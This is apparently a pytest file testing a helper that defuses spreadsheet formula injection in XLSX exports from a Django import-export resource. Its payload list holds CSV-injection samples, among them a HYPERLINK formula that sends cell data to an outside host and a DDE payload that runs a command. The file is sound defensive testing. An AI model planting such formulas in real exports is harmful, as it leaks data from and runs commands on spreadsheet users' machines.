"""Export cells open as data: text that a spreadsheet would run as a formula is defused."""

import io
from datetime import date, datetime
from decimal import Decimal
from types import SimpleNamespace

import openpyxl
import pytest
from import_export import fields, resources, widgets
from import_export.formats.base_formats import XLSX

from core.spreadsheets import FormulaSafeExportMixin, defuse_formula

#: Text that spreadsheets run as a formula (OWASP's CSV-injection examples and variants).
FORMULAS = [
    "=SUM(1+1)",
    '==HYPERLINK("//e.tk/"&D3)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    " \t+1+1",
]


class RowResource(FormulaSafeExportMixin, resources.Resource):
    text = fields.Field(attribute="text", column_name="Text")
    amount = fields.Field(attribute="amount", column_name="Amount", widget=widgets.IntegerWidget())
    at = fields.Field(attribute="at", column_name="At", widget=widgets.DateWidget())


def xlsx_row(text="", amount=0, at=None):
    """The second row of the XLSX that import-export's admin would write for one object."""
    row = SimpleNamespace(text=text, amount=amount, at=at)
    dataset = RowResource().export([row], force_native_type=True)
    sheet = openpyxl.load_workbook(io.BytesIO(XLSX().export_data(dataset))).active
    return [(cell.value, cell.data_type) for cell in sheet[2]]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_would_run_as_a_formula_gets_a_leading_quote(text):
    assert defuse_formula(text) == "'" + text


@pytest.mark.parametrize("text", ["Anna", "", "1-2", "a=b", "'=quoted", "ann@example.com", "7"])
def test_ordinary_text_stays_as_it_is(text):
    assert defuse_formula(text) == text


@pytest.mark.parametrize("text", ["+79991234567", "-2", "-0.15", "-0,15", " -2"])
def test_text_that_is_a_plain_signed_number_stays_as_it_is(text):
    assert defuse_formula(text) == text


@pytest.mark.parametrize("value", [-2, -2.5, Decimal("-0.15"), None, datetime(2025, 3, 1)])
def test_values_that_are_not_text_stay_as_they_are(value):
    assert defuse_formula(value) == value


@pytest.mark.parametrize("text", FORMULAS)
def test_an_exported_formula_looking_text_is_a_string_cell_in_xlsx(text):
    (value, data_type), _amount, _at = xlsx_row(text=text)

    # XML reads a carriage return back as a line feed; what matters is the quote and the type.
    assert (value[:1], data_type) == ("'", "s")


def test_an_exported_negative_number_stays_a_number_in_xlsx():
    _text, amount, _at = xlsx_row(amount=-5)

    assert amount == (-5, "n")


def test_an_exported_date_stays_a_date_in_xlsx():
    _text, _amount, at = xlsx_row(at=date(2025, 3, 1))

    assert at == (datetime(2025, 3, 1), "d")
